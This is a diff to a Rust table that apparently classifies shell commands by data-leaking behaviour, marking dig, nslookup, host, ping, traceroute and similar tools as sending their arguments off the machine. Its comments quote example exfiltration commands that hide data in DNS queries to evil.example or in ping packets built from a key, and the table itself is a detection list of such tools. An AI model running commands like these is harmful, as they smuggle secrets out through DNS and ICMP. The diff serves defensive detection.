@@ -1776,10 +1776,14 @@ pub const ENTRIES: &[Entry] = &[
         names: &["dig"],
         subcommand: &[],
         options: Options::gnu("fky", &[]),
+        // The names it is given leave the machine in DNS queries (`dig $(…).evil.example`), as
+        // does each line of the `-f` batch file.
         carriers: &[
             Carrier::ReadsOption(Opt::Short('f')),
             Carrier::ReadsOption(Opt::Short('k')),
             Carrier::ReadsOption(Opt::Short('y')),
+            Carrier::SendsOption(Opt::Short('f')),
+            Carrier::SendsArguments,
         ],
         inert: &[],
     },
@@ -8003,6 +8007,31 @@ pub const ENTRIES: &[Entry] = &[
         names: &["finger", "whois", "rlogin", "cancel"],
         subcommand: &[],
         options: Options::gnu("hpluU", &[]),
+        carriers: &[Carrier::SendsArguments],
+        inert: &[],
+    },
+    // Name lookups and network probes: the names and addresses they are given leave the machine
+    // in DNS queries, and ping's `-p` pattern fills its ICMP packets (`host $(…).evil.example`,
+    // `ping -p $(xxd -p key) host`).
+    Entry {
+        names: &[
+            "nslookup",
+            "host",
+            "drill",
+            "kdig",
+            "delv",
+            "ping",
+            "ping6",
+            "fping",
+            "traceroute",
+            "traceroute6",
+            "tracepath",
+            "mtr",
+            "nping",
+            "arping",
+        ],
+        subcommand: &[],
+        options: Options::gnu("", &[]),
         carriers: &[Carrier::SendsArguments],
         inert: &[],
     },
